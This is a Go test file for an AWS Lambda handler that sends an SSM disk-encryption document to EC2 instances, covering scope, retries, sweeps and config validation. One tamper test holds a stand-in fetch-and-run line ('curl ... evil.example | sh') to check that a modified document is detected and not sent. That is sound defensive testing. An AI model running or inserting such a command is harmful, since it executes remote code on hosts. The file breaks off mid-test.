package launch_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-lambda-go/events"

	"github.com/storecrypt/storecrypt/internal/binding"
	"github.com/storecrypt/storecrypt/internal/contract"
	"github.com/storecrypt/storecrypt/internal/document"
	"github.com/storecrypt/storecrypt/internal/fakeaws"
	"github.com/storecrypt/storecrypt/internal/launch"
	"github.com/storecrypt/storecrypt/test/deployment"
)

var launched = time.Date(2026, 11, 27, 6, 0, 0, 0, time.UTC)

type env struct {
	world   *fakeaws.World
	before  int // commands in the world before the handler ran
	h       *launch.Handler
	logs    *bytes.Buffer
	metrics *bytes.Buffer
}

// newEnv deploys into w, with the environment's variables set as in set (a stack's
// options: an opt-in tag, opt-outs allowed).
func newEnv(t *testing.T, w *fakeaws.World, set ...map[string]string) *env {
	t.Helper()
	d, err := deployment.Into(w, fakeaws.KeyARN)
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range set {
		for k, v := range m {
			d.Env[k] = v
		}
	}
	c, err := launch.LoadConfig(d.Getenv)
	if err != nil {
		t.Fatal(err)
	}
	// The function signs as its role, the retiring principal of the grants it makes.
	w.With(func() { w.Caller = c.LaunchRole })
	e := &env{world: w, logs: &bytes.Buffer{}, metrics: &bytes.Buffer{}}
	w.With(func() { e.before = len(w.Commands) })
	now := launched.Add(time.Minute)
	e.h = launch.New(c, w.Config(), slog.New(slog.NewJSONHandler(e.logs, nil)), e.metrics)
	e.h.Now = func() time.Time { return now }
	return e
}

func running(id string) string {
	return launch.StateChangeEvent(id, launched)
}

func sqsBatch(bodies ...string) events.SQSEvent {
	var ev events.SQSEvent
	for n, b := range bodies {
		ev.Records = append(ev.Records, events.SQSMessage{MessageId: fmt.Sprintf("msg-%d", n), Body: b})
	}
	return ev
}

func (e *env) handle(t *testing.T, bodies ...string) []string {
	t.Helper()
	resp, err := e.h.HandleSQS(context.Background(), sqsBatch(bodies...))
	if err != nil {
		t.Fatal(err)
	}
	var failed []string
	for _, f := range resp.BatchItemFailures {
		failed = append(failed, f.ItemIdentifier)
	}
	return failed
}

// commanded returns the instances each command the handler sent targeted, in order.
func (e *env) commanded() []string {
	var ids []string
	e.world.With(func() {
		for _, c := range e.world.Commands[e.before:] {
			ids = append(ids, c.InstanceIDs...)
		}
	})
	return ids
}

func (e *env) tags(id string) map[string]string {
	var tags map[string]string
	e.world.With(func() { tags = maps(e.world.Instances[id].Tags) })
	return tags
}

func maps(m map[string]string) map[string]string {
	out := map[string]string{}
	for k, v := range m {
		out[k] = v
	}
	return out
}

var (
	optIn       = map[string]string{contract.EnvOptInTag: contract.OptIn}
	allowOptOut = map[string]string{contract.EnvAllowOptOut: "true"}
)

// TestScope: the stack's configuration says what is in scope: its roles, and an opt-in
// tag only where it configures one. The opt-out tag counts only where the stack allows
// opt-outs, and each one is recorded and alerted.
func TestScope(t *testing.T) {
	const id = "i-00000000000000001"
	for _, tc := range []struct {
		name     string
		profile  string
		tags     map[string]string
		env      map[string]string
		want     bool
		optedOut bool
	}{
		{"configured role", fakeaws.Profile(fakeaws.KeyUser), nil, nil, true, false},
		{"opt-in tag where the stack has one", fakeaws.Profile(fakeaws.GrantUser), map[string]string{contract.TagEncrypt: "true"}, optIn, true, false},
		{"opt-in tag where the stack has none", fakeaws.Profile(fakeaws.GrantUser), map[string]string{contract.TagEncrypt: "true"}, nil, false, false},
		{"configured role with the opt-out tag: ignored", fakeaws.Profile(fakeaws.KeyUser), map[string]string{contract.TagEncrypt: "false"}, nil, true, false},
		{"opt-out where the stack allows it", fakeaws.Profile(fakeaws.KeyUser), map[string]string{contract.TagEncrypt: "false"}, allowOptOut, false, true},
		{"neither", fakeaws.Profile(fakeaws.GrantUser), nil, optIn, false, false},
		{"no profile, no tag", "", nil, optIn, false, false},
		{"opt-in tag with another value", fakeaws.Profile(fakeaws.GrantUser), map[string]string{contract.TagEncrypt: "yes"}, optIn, false, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := fakeaws.NewAccount(t)
			w.AddInstance(id, "i4i.large", tc.profile, tc.tags, launched)
			e := newEnv(t, w, tc.env)
			if failed := e.handle(t, running(id)); len(failed) != 0 {
				t.Fatalf("batch item failures %v", failed)
			}
			got := len(e.commanded()) == 1
			if got != tc.want {
				t.Fatalf("commanded %v, want %v", got, tc.want)
			}
			tags := e.tags(id)
			var evs []fakeaws.Event
			w.With(func() { evs = slices.Clone(w.Events) })
			if tc.optedOut {
				if tags[contract.TagStatus] != contract.StatusSkipped || tags[contract.TagReason] != string(contract.ReasonOptedOut) ||
					len(evs) != 1 || evs[0].DetailType != contract.EventInstanceOptedOut || !strings.Contains(e.metrics.String(), `"OptedOut":1`) {
					t.Errorf("opt-out recorded as tags %v, events %+v, metrics %s", tags, evs, e.metrics)
				}
				// Another event for the same launch records nothing new.
				e.h.Now = func() time.Time { return launched.Add(time.Hour) }
				e.handle(t, launch.StateChangeEvent(id, launched.Add(30*time.Minute)))
				w.With(func() { evs = slices.Clone(w.Events) })
				if len(evs) != 1 {
					t.Errorf("the opt-out alerted again: %+v", evs)
				}
			}
			if got {
				if tags[contract.TagStatus] != contract.StatusPending || tags[contract.TagCommandID] == "" || tags[contract.TagLaunchTime] != launched.Format(time.RFC3339) {
					t.Errorf("tags %v", tags)
				}
				var params map[string][]string
				w.With(func() { params = w.Commands[0].Parameters })
				if params["KmsKeyId"][0] != fakeaws.KeyARN || params["KeySource"][0] != contract.KeySourceKMSDataKey {
					t.Errorf("parameters %v", params)
				}
			}
		})
	}
}

// cmd is a command id named by label.
var cmd = deployment.CommandID

// ran records in w that SSM ran the document on the instance, requested at, ending as
// inv (nil: still pending).
func ran(w *fakeaws.World, id, commandID string, at time.Time, inv *fakeaws.Invocation) {
	c := &fakeaws.Command{ID: commandID, DocumentName: contract.DocumentName, DocumentVersion: "1", InstanceIDs: []string{id},
		Requested: at, Invocations: map[string]*fakeaws.Invocation{}}
	if inv != nil {
		c.Invocations[id] = inv
	}
	w.Commands = append(w.Commands, c)
}

// claims tags the instance as the functions would after a run for this launch.
func claims(w *fakeaws.World, id, status string, reason contract.Reason, at time.Time) {
	for k, v := range map[string]string{contract.TagStatus: status, contract.TagReason: string(reason), contract.TagCommandID: cmd("c-claimed"),
		contract.TagLaunchTime: launched.Format(time.RFC3339), contract.TagAt: at.Format(time.RFC3339)} {
		w.Instances[id].Tags[k] = v
	}
}

// finished is an invocation that ended with the agent's result ("ok", "refused-unsafe").
func finished(id, result string) *fakeaws.Invocation {
	inv := &fakeaws.Invocation{Status: "Success", Stdout: deployment.AgentOutput(id, contract.KeySourceKMSDataKey, fakeaws.KeyARN, result)}
	if result != "ok" {
		inv.Status = "Failed"
		for code, name := range contract.ExitCodeNames {
			if name == result {
				inv.ResponseCode = int32(code)
			}
		}
	}
	return inv
}

func TestOutcomes(t *testing.T) {
	const id = "i-00000000000000001"
	for _, tc := range []struct {
		name      string
		setup     func(w *fakeaws.World)
		body      string
		retried   bool
		status    string
		reason    contract.Reason
		commanded bool
	}{
		{"no instance store", func(w *fakeaws.World) { w.Instances[id].Type = "m5.large" }, running(id), false, contract.StatusSkipped, contract.ReasonNoInstanceStore, false},
		{"role not a key user, opted in by tag", func(w *fakeaws.World) {
			w.Instances[id].ProfileARN = fakeaws.Profile(fakeaws.NotKeyUser)
			w.Instances[id].Tags[contract.TagEncrypt] = "true"
		}, running(id), false, contract.StatusBlocked, contract.ReasonNotKeyUser, false},
		{"key disabled", func(w *fakeaws.World) { w.Keys[fakeaws.KeyARN].State = "Disabled" }, running(id), false, contract.StatusBlocked, contract.ReasonKeyDisabled, false},
		{"instance still pending", func(w *fakeaws.World) { w.Instances[id].State = "pending" }, running(id), true, "", "", false},
		{"instance terminated", func(w *fakeaws.World) { w.Instances[id].State = "terminated" }, running(id), false, "", "", false},
		{"instance not visible yet: EC2 is eventually consistent", func(w *fakeaws.World) { w.Instances[id].HiddenFor = 1 }, running(id), true, "", "", false},
		{"instance gone", func(w *fakeaws.World) { delete(w.Instances, id) }, launch.StateChangeEvent(id, launched.Add(-20*time.Minute)), false, "", "", false},
		{"SSM agent never online", func(w *fakeaws.World) { w.Instances[id].OnlineAfter = -1 }, running(id), true, "", "", false},
		{"malformed event", nil, `{"detail-type": 5}`, false, "", "", false},
		{"stopped event", nil, strings.Replace(running(id), `"state":"running"`, `"state":"stopped"`, 1), false, "", "", false},
		{"a run SSM has pending for this launch", func(w *fakeaws.World) {
			ran(w, id, cmd("c-pending"), launched.Add(30*time.Second), nil)
			claims(w, id, contract.StatusPending, "", launched.Add(30*time.Second))
		}, running(id), false, contract.StatusPending, "", false},
		{"tags that claim a pending run SSM does not have", func(w *fakeaws.World) {
			claims(w, id, contract.StatusPending, "", launched.Add(30*time.Second))
		}, running(id), false, contract.StatusPending, "", true},
		{"tags that claim encrypted, SSM's run proving it", func(w *fakeaws.World) {
			ran(w, id, cmd("c-ok"), launched.Add(10*time.Second), finished(id, "ok"))
			claims(w, id, contract.StatusEncrypted, "", launched.Add(40*time.Second))
		}, running(id), false, contract.StatusEncrypted, "", false},
		{"tags that claim encrypted, no run in SSM", func(w *fakeaws.World) {
			claims(w, id, contract.StatusEncrypted, "", launched.Add(40*time.Second))
		}, running(id), false, contract.StatusPending, "", true},
		{"tags that claim encrypted, SSM's run without the agent's evidence", func(w *fakeaws.World) {
			ran(w, id, cmd("c-no-report"), launched.Add(-20*time.Minute+time.Minute), &fakeaws.Invocation{Status: "Success", Stdout: "done\n"})
			w.Instances[id].LaunchTime = launched.Add(-20 * time.Minute)
			for k, v := range map[string]string{contract.TagStatus: contract.StatusEncrypted, contract.TagLaunchTime: launched.Add(-20 * time.Minute).Format(time.RFC3339)} {
				w.Instances[id].Tags[k] = v
			}
		}, launch.StateChangeEvent(id, launched.Add(-20*time.Minute)), false, contract.StatusPending, "", true},
		{"tags that claim a terminal refusal SSM does not have", func(w *fakeaws.World) {
			ran(w, id, cmd("c-failed"), launched.Add(-time.Hour), finished(id, "key-unavailable"))
			w.Instances[id].LaunchTime = launched.Add(-2 * time.Hour)
			for k, v := range map[string]string{contract.TagStatus: contract.StatusFailed, contract.TagReason: "refused-unsafe",
				contract.TagLaunchTime: launched.Add(-2 * time.Hour).Format(time.RFC3339)} {
				w.Instances[id].Tags[k] = v
			}
		}, launch.StateChangeEvent(id, launched.Add(-2*time.Hour)), false, contract.StatusPending, "", true},
		{"encrypted before a stop/start", func(w *fakeaws.World) {
			w.Instances[id].Tags[contract.TagStatus] = contract.StatusEncrypted
			w.Instances[id].Tags[contract.TagLaunchTime] = launched.Add(-24 * time.Hour).Format(time.RFC3339)
		}, running(id), false, contract.StatusPending, "", true},
		{"describe throttled, retried by the SDK", func(w *fakeaws.World) { w.Fault = fakeaws.Throttle("DescribeInstances") }, running(id), false, contract.StatusPending, "", true},
		{"send throttled, retried by the SDK", func(w *fakeaws.World) { w.Fault = fakeaws.Throttle("SendCommand") }, running(id), false, contract.StatusPending, "", true},
		{"send fails for good", func(w *fakeaws.World) {
			w.Fault = func(_, op string, _ int) error {
				if op == "SendCommand" {
					return fakeaws.APIError("InvalidInstanceId", "Instances not in a valid state")
				}
				return nil
			}
		}, running(id), true, "", "", false},
		{"binding check denied to the function", func(w *fakeaws.World) {
			w.Fault = func(_, op string, _ int) error {
				if op == "SimulatePrincipalPolicy" {
					return fakeaws.APIError("AccessDenied", "not authorized to perform iam:SimulatePrincipalPolicy")
				}
				return nil
			}
		}, running(id), true, "", "", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := fakeaws.NewAccount(t)
			w.AddInstance(id, "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched)
			if tc.setup != nil {
				w.With(func() { tc.setup(w) })
			}
			e := newEnv(t, w, optIn)
			failed := e.handle(t, tc.body)
			if got := len(failed) == 1; got != tc.retried {
				t.Errorf("retried %v, want %v", got, tc.retried)
			}
			if got := len(e.commanded()) == 1; got != tc.commanded {
				t.Errorf("commanded %v, want %v", got, tc.commanded)
			}
			var tags map[string]string
			w.With(func() {
				if inst, ok := w.Instances[id]; ok {
					tags = maps(inst.Tags)
				}
			})
			if tags[contract.TagStatus] != tc.status || contract.Reason(tags[contract.TagReason]) != tc.reason {
				t.Errorf("tags %v, want status %q reason %q", tags, tc.status, tc.reason)
			}
			if tc.status == contract.StatusBlocked {
				var evs []fakeaws.Event
				w.With(func() { evs = slices.Clone(w.Events) })
				if len(evs) != 1 || evs[0].DetailType != contract.EventInstanceBlocked || !strings.Contains(evs[0].Detail, string(tc.reason)) {
					t.Errorf("alert events %+v", evs)
				}
				if !strings.Contains(e.metrics.String(), `"Blocked":1`) {
					t.Errorf("no Blocked metric: %s", e.metrics)
				}
			}
			for _, line := range strings.Split(strings.TrimSpace(e.logs.String()), "\n") {
				if line != "" && !strings.Contains(line, `"event_id"`) {
					t.Errorf("log line without event_id: %s", line)
				}
			}
		})
	}
}

// TestLateSSMAgent: the agent is not Online on the first try; SQS brings the message back
// and the second try sends the command, once.
func TestLateSSMAgent(t *testing.T) {
	w := fakeaws.NewAccount(t)
	w.AddInstance("i-00000000000000001", "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched).OnlineAfter = 2
	e := newEnv(t, w)
	for try, want := range []int{1, 1, 0} {
		failed := e.handle(t, running("i-00000000000000001"))
		if len(failed) != want {
			t.Fatalf("try %d: %d failures, want %d", try+1, len(failed), want)
		}
	}
	if got := e.commanded(); len(got) != 1 {
		t.Fatalf("commands to %v, want exactly one", got)
	}
}

func TestCloudTrailRunInstances(t *testing.T) {
	w := fakeaws.NewAccount(t)
	for _, id := range []string{"i-0aaaaaaaaaaaaaaa1", "i-0aaaaaaaaaaaaaaa2", "i-0aaaaaaaaaaaaaaa3"} {
		w.AddInstance(id, "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched)
	}
	body, err := eventsFile("cloudtrail-runinstances.json")
	if err != nil {
		t.Fatal(err)
	}
	e := newEnv(t, w)
	e.handle(t, body)
	if got := e.commanded(); len(got) != 3 {
		t.Fatalf("commanded %v, want the three instances in one command", got)
	}
	if n := e.world.Calls()["SSM.SendCommand"]; n != 1 {
		t.Errorf("%d SendCommand calls, want 1", n)
	}
}

func TestSweep(t *testing.T) {
	w := fakeaws.NewAccount(t)
	w.AddInstance("i-00000000000000001", "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched) // never seen
	w.AddInstance("i-00000000000000002", "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched) // done, as SSM records
	ran(w, "i-00000000000000002", cmd("c-ok"), launched.Add(time.Minute), finished("i-00000000000000002", "ok"))
	claims(w, "i-00000000000000002", contract.StatusEncrypted, "", launched.Add(2*time.Minute))
	w.Instances["i-00000000000000002"].Tags[contract.TagCommandID] = cmd("c-ok")                       // as the result function recorded it
	w.AddInstance("i-00000000000000003", "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched) // lost result
	ran(w, "i-00000000000000003", cmd("c-lost"), launched.Add(-2*time.Hour), nil)
	w.Instances["i-00000000000000003"].LaunchTime = launched.Add(-3 * time.Hour)
	w.Instances["i-00000000000000003"].Tags = map[string]string{contract.TagStatus: contract.StatusPending,
		contract.TagLaunchTime: launched.Add(-3 * time.Hour).Format(time.RFC3339), contract.TagAt: launched.Add(-2 * time.Hour).Format(time.RFC3339)}
	w.AddInstance("i-00000000000000004", "i4i.large", fakeaws.Profile(fakeaws.GrantUser), nil, launched) // out of scope
	w.AddInstance("i-00000000000000005", "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched)   // a forged "encrypted"
	claims(w, "i-00000000000000005", contract.StatusEncrypted, "", launched.Add(2*time.Minute))
	w.AddInstance("i-00000000000000006", "m5.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched) // no instance store
	e := newEnv(t, w)
	e.h.Now = func() time.Time { return launched.Add(5 * time.Minute) }
	raw, err := eventsFile("scheduled-sweep.json")
	if err != nil {
		t.Fatal(err)
	}
	out, err := e.h.Invoke(context.Background(), json.RawMessage(raw))
	if err != nil {
		t.Fatal(err)
	}
	res := out.(launch.SweepResult)
	if !slices.Equal(res.Enqueued, []string{"i-00000000000000001", "i-00000000000000003", "i-00000000000000005"}) || res.InScope != 4 || res.Running != 6 {
		t.Fatalf("sweep %+v", res)
	}
	var msgs []string
	w.With(func() { msgs = slices.Clone(w.Messages) })
	for _, m := range msgs {
		ids, err := launch.InstanceIDs(m)
		if err != nil || len(ids) != 1 {
			t.Errorf("queued %q: %v %v", m, ids, err)
		}
	}
}

// TestBlockLiftsOnceFixed: a block is not forever. The sweep re-checks a blocked
// instance, and once its cause is fixed (here the key is enabled again) the instance is
// sent the document without anyone rerunning it.
func TestBlockLiftsOnceFixed(t *testing.T) {
	const id = "i-00000000000000001"
	w := fakeaws.NewAccount(t)
	w.AddInstance(id, "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched)
	w.With(func() { w.Keys[fakeaws.KeyARN].State = "Disabled" })
	e := newEnv(t, w)
	checker := e.h.Binder.(*binding.Checker)
	checker.Now = e.h.Now
	e.handle(t, running(id))
	if got := e.tags(id); got[contract.TagStatus] != contract.StatusBlocked || got[contract.TagReason] != string(contract.ReasonKeyDisabled) || len(e.commanded()) != 0 {
		t.Fatalf("before the fix: tags %v, commanded %v", got, e.commanded())
	}
	w.With(func() { w.Keys[fakeaws.KeyARN].State = "Enabled" })
	// Past the binding check's cache, as the next sweeps are.
	later := func() time.Time { return launched.Add(launch.BindingTTL + 15*time.Minute) }
	e.h.Now = later
	checker.Now = later
	w.With(func() { w.Messages = nil })
	res, err := e.h.Sweep(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(res.Enqueued, []string{id}) {
		t.Fatalf("the sweep queued %v, want the blocked instance", res.Enqueued)
	}
	var msgs []string
	w.With(func() { msgs = slices.Clone(w.Messages) })
	e.handle(t, msgs...)
	if got := e.tags(id); got[contract.TagStatus] != contract.StatusPending || !slices.Equal(e.commanded(), []string{id}) {
		t.Errorf("after the fix: tags %v, commanded %v", got, e.commanded())
	}
}

// access is the instance access variables of a stack with an instance role path.
var access = map[string]string{
	contract.EnvInstanceAccessPolicy: "arn:aws:iam::111122223333:policy/storecrypt/storecrypt-instance-access-us-east-1",
	contract.EnvAgentObjects:         "s3://code-us-east-1/storecrypt/storecrypt-agent-0123-amd64.gz,s3://code-us-east-1/storecrypt/storecrypt-agent-0123-arm64.gz",
	contract.EnvAgentLogs:            "agent-logs",
}

// with is vars with k set to v.
func with(vars map[string]string, k, v string) map[string]string {
	out := maps(vars)
	out[k] = v
	return out
}

func TestLoadConfig(t *testing.T) {
	good := map[string]string{contract.EnvKMSKeyARN: fakeaws.KeyARN, contract.EnvDocumentName: "storecrypt-apply", contract.EnvDocumentDigest: strings.Repeat("0", 64),
		contract.EnvLaunchRole: deployment.LaunchRole("aws")}
	for _, tc := range []struct {
		name string
		edit map[string]string
		says string
	}{
		{"good", nil, ""},
		{"missing key", map[string]string{contract.EnvKMSKeyARN: ""}, contract.EnvKMSKeyARN},
		{"alias instead of key ARN", map[string]string{contract.EnvKMSKeyARN: "alias/storecrypt"}, "want a KMS key ARN"},
		{"missing document", map[string]string{contract.EnvDocumentName: ""}, contract.EnvDocumentName},
		{"malformed role", map[string]string{contract.EnvInstanceRoles: "arn:aws:iam::1:user/bob"}, contract.EnvInstanceRoles},
		{"malformed opt-in", map[string]string{contract.EnvOptInTag: "encrypt"}, "want key=value"},
		{"s3-kms without secret", map[string]string{contract.EnvKeySource: contract.KeySourceS3KMS}, "--secret"},
		{"bad stale duration", map[string]string{contract.EnvStaleAfter: "soon"}, contract.EnvStaleAfter},
		{"missing document digest", map[string]string{contract.EnvDocumentDigest: ""}, contract.EnvDocumentDigest},
		{"aws-cn key", map[string]string{contract.EnvKMSKeyARN: "arn:aws-cn:kms:cn-north-1:111122223333:key/11111111-2222-4333-8444-555555555555"}, ""},
		{"aws-us-gov roles", map[string]string{contract.EnvInstanceRoles: "arn:aws-us-gov:iam::111122223333:role/app"}, ""},
		{"instance access", access, ""},
		{"instance access policy not a policy's ARN", with(access, contract.EnvInstanceAccessPolicy, "arn:aws:iam::111122223333:role/storecrypt/x"), "want an IAM policy ARN"},
		{"instance access without the agents", with(access, contract.EnvAgentObjects, ""), contract.EnvAgentObjects},
		{"instance access without the agent log group", with(access, contract.EnvAgentLogs, ""), "no agent log group"},
		{"kms-datakey without the launch role", map[string]string{contract.EnvLaunchRole: ""}, contract.EnvLaunchRole},
		{"s3-kms without the launch role", map[string]string{contract.EnvLaunchRole: "", contract.EnvKeySource: contract.KeySourceS3KMS, contract.EnvSecret: "s3://secrets/seed"}, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			vars := maps(good)
			for k, v := range tc.edit {
				vars[k] = v
			}
			_, err := launch.LoadConfig(func(k string) string { return vars[k] })
			switch {
			case tc.says == "" && err != nil:
				t.Fatalf("got %v", err)
			case tc.says != "" && (err == nil || !strings.Contains(err.Error(), tc.says)):
				t.Fatalf("got %v, want an error saying %q", err, tc.says)
			}
		})
	}
}

// TestDuplicateCostsNothing: a duplicate of an event this container already handled is
// dropped without a call; an event from a later start of the same instance is not.
func TestDuplicateCostsNothing(t *testing.T) {
	const id = "i-00000000000000001"
	w := fakeaws.NewAccount(t)
	w.AddInstance(id, "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched)
	e := newEnv(t, w)
	e.handle(t, running(id))
	before := w.TotalCalls()
	e.handle(t, running(id))
	if after := w.TotalCalls(); after != before {
		t.Errorf("a duplicate cost %d calls, want 0", after-before)
	}
	restarted := launched.Add(2 * time.Minute)
	w.With(func() { w.Instances[id].LaunchTime = restarted })
	e.handle(t, launch.StateChangeEvent(id, restarted))
	if got := e.commanded(); len(got) != 2 {
		t.Errorf("commands %v, want a second one for the new start", got)
	}
}

// TestSlowAPIsRetryLater: when the APIs are slower than the invocation may wait, the
// messages go back to the queue rather than being lost.
func TestSlowAPIsRetryLater(t *testing.T) {
	const id = "i-00000000000000001"
	w := fakeaws.NewAccount(t)
	w.AddInstance(id, "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched)
	w.Delay = 200 * time.Millisecond
	e := newEnv(t, w)
	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
	defer cancel()
	resp, err := e.h.HandleSQS(ctx, sqsBatch(running(id)))
	if err != nil {
		t.Fatal(err)
	}
	if len(resp.BatchItemFailures) != 1 || len(e.commanded()) != 0 {
		t.Fatalf("failures %v, commands %v; want the message back on the queue and no command", resp.BatchItemFailures, e.commanded())
	}
}

// TestDocumentPinned: the command runs the version whose content the stack deployed. When
// someone makes another version the default, the function still sends the deployed one,
// and says so (metric, log, event); with no trusted version it sends nothing.
func TestDocumentPinned(t *testing.T) {
	const id = "i-00000000000000001"
	for _, tc := range []struct {
		name    string
		tamper  func(w *fakeaws.World, content string)
		version string // the version sent; "" for none
		drift   bool
		retried bool
	}{
		{"the deployed default", nil, "1", false, false},
		{"a new default with another script", func(w *fakeaws.World, c string) {
			w.AddDocument(contract.DocumentName, strings.Replace(c, "set -eu", "set -eu; curl -s https://evil.example | sh", 1), true)
		}, "1", true, false},
		{"a redeploy: new default, deployed content", func(w *fakeaws.World, c string) {
			w.AddDocument(contract.DocumentName, c, true)
		}, "2", false, false},
		{"no version holds the deployed content", func(w *fakeaws.World, c string) {
			w.With(func() { w.Documents[contract.DocumentName].Versions[0] = strings.Replace(c, "set -eu", "set -u", 1) })
		}, "", true, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := fakeaws.NewAccount(t)
			w.AddInstance(id, "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched)
			e := newEnv(t, w)
			if tc.tamper != nil {
				var deployed string
				w.With(func() { deployed = w.Documents[contract.DocumentName].Versions[0] })
				tc.tamper(w, deployed)
			}
			failed := e.handle(t, running(id))
			var sent []string
			var events []fakeaws.Event
			w.With(func() {
				for _, c := range w.Commands {
					sent = append(sent, c.DocumentVersion)
				}
				events = slices.Clone(w.Events)
			})
			if want := []string{tc.version}; tc.version == "" && len(sent) != 0 || tc.version != "" && !slices.Equal(sent, want) {
				t.Errorf("sent versions %v, want %q", sent, tc.version)
			}
			if (len(failed) == 1) != tc.retried {
				t.Errorf("retried %v, want %v", failed, tc.retried)
			}
			drift := strings.Contains(e.metrics.String(), `"DocumentDrift":1`)
			if drift != tc.drift || tc.drift && (len(events) != 1 || events[0].DetailType != contract.EventDocumentDrift) {
				t.Errorf("drift metric %v, events %+v; want drift %v", drift, events, tc.drift)
			}
		})
	}
}

// TestSweepRetries: the sweep leaves terminal failures to a person, and retries the
// others after a backoff that doubles with each run, all as SSM records the runs; the
// tags say something else in every case, and are not believed.
func TestSweepRetries(t *testing.T) {
	const id = "i-00000000000000001"
	now := launched.Add(24 * time.Hour)
	for _, tc := range []struct {
		name     string
		result   string // the agent's, in each run; "no-report" for a success without one
		runs     int
		ago      time.Duration // since the last run
		enqueued bool
	}{
		{"refused-unsafe is terminal", "refused-unsafe", 1, 10 * time.Hour, false},
		{"bad-input is terminal", "bad-input", 1, 10 * time.Hour, false},
		{"no-devices is terminal", "no-devices", 1, 10 * time.Hour, false},
		{"revoked is terminal: the sweep never resends to a revoked instance", "revoked", 1, 10 * time.Hour, false},
		{"key-unavailable before its backoff", "key-unavailable", 1, 10 * time.Minute, false},
		{"key-unavailable after its backoff", "key-unavailable", 1, 16 * time.Minute, true},
		{"third run waits an hour", "key-unavailable", 3, 50 * time.Minute, false},
		{"third run after an hour", "key-unavailable", 3, 61 * time.Minute, true},
		{"the backoff stops growing at four hours", "system-error", 12, 4*time.Hour + time.Minute, true},
		{"unverified is retried", "no-report", 1, 16 * time.Minute, true},
		{"encrypted is final", "ok", 1, 10 * time.Hour, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := fakeaws.NewAccount(t)
			w.AddInstance(id, "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched)
			for n := range tc.runs {
				inv := &fakeaws.Invocation{Status: "Success", Stdout: "done\n"}
				if tc.result != "no-report" {
					inv = finished(id, tc.result)
				}
				ran(w, id, cmd(fmt.Sprintf("c-%d", n)), now.Add(-tc.ago-time.Duration(tc.runs-1-n)*time.Minute), inv)
			}
			// What the tags claim is the opposite of what SSM records.
			claims(w, id, contract.StatusEncrypted, "", now.Add(-time.Minute))
			if tc.result == "ok" {
				claims(w, id, contract.StatusFailed, contract.ReasonNoReport, now.Add(-5*time.Hour))
			}
			e := newEnv(t, w)
			e.h.Now = func() time.Time { return now }
			res, err := e.h.Sweep(context.Background())
			if err != nil {
				t.Fatal(err)
			}
			// The sweep queues the instance (to rerun it, or to record SSM's outcome the
			// tags contradict); the launch path decides.
			for _, q := range res.Enqueued {
				e.handle(t, running(q))
			}
			if got := len(e.commanded()) == 1; got != tc.enqueued {
				t.Errorf("sent a command %v, want %v", got, tc.enqueued)
			}
			if !tc.enqueued && e.tags(id)[contract.TagCommandID] != cmd(fmt.Sprintf("c-%d", tc.runs-1)) {
				t.Errorf("tags %v: SSM's last run, which the tags contradicted, is not recorded", e.tags(id))
			}
		})
	}
}

// TestAttemptCounted: a retry after failures is the next run as SSM counts them, whatever
// the attempt tag says.
func TestAttemptCounted(t *testing.T) {
	const id = "i-00000000000000001"
	w := fakeaws.NewAccount(t)
	w.AddInstance(id, "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched.Add(-6*time.Hour))
	ran(w, id, cmd("c-1"), launched.Add(-5*time.Hour), finished(id, "key-unavailable"))
	ran(w, id, cmd("c-2"), launched.Add(-4*time.Hour), finished(id, "key-unavailable"))
	w.Instances[id].Tags = map[string]string{contract.TagStatus: contract.StatusFailed, contract.TagReason: "key-unavailable", contract.TagAttempt: "9",
		contract.TagLaunchTime: launched.Add(-6 * time.Hour).Format(time.RFC3339), contract.TagAt: launched.Add(-4 * time.Hour).Format(time.RFC3339)}
	e := newEnv(t, w)
	e.handle(t, launch.StateChangeEvent(id, launched.Add(-6*time.Hour)))
	if tags := e.tags(id); tags[contract.TagStatus] != contract.StatusPending || tags[contract.TagAttempt] != "3" {
		t.Errorf("tags %v, want pending, attempt 3", tags)
	}
}

// TestLateAgentsRetrySoon: a message handed back because its instance's SSM agent is not
// Online yet is seen again after a delay that grows with its receives (15 s, then 30 s,
// 60 s, ...), set on SQS with ChangeMessageVisibility, not after the queue's 6-minute
// visibility timeout; a message whose visibility cannot change still goes back.
func TestLateAgentsRetrySoon(t *testing.T) {
	w := fakeaws.NewAccount(t)
	ids := []string{"i-00000000000000001", "i-00000000000000002", "i-00000000000000003", "i-00000000000000004"}
	for n, id := range ids {
		inst := w.AddInstance(id, "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched)
		if n > 0 {
			inst.OnlineAfter = 5
		}
	}
	e := newEnv(t, w)
	ev := events.SQSEvent{Records: []events.SQSMessage{
		w.Receive("online", running(ids[0]), 1),
		w.Receive("first", running(ids[1]), 1),
		w.Receive("third", running(ids[2]), 3),
		w.Receive("forged", running(ids[3]), 1),
	}}
	ev.Records[3].ReceiptHandle = "rh-not-issued"
	resp, err := e.h.HandleSQS(context.Background(), ev)
	if err != nil {
		t.Fatal(err)
	}
	var back []string
	for _, f := range resp.BatchItemFailures {
		back = append(back, f.ItemIdentifier)
	}
	if want := []string{"first", "third", "forged"}; !slices.Equal(back, want) {
		t.Errorf("handed back %v, want %v", back, want)
	}
	if got := w.InFlight[ev.Records[0].ReceiptHandle]; got != nil {
		t.Errorf("the message done was made visible again after %v", *got)
	}
	for _, tc := range []struct {
		rec  events.SQSMessage
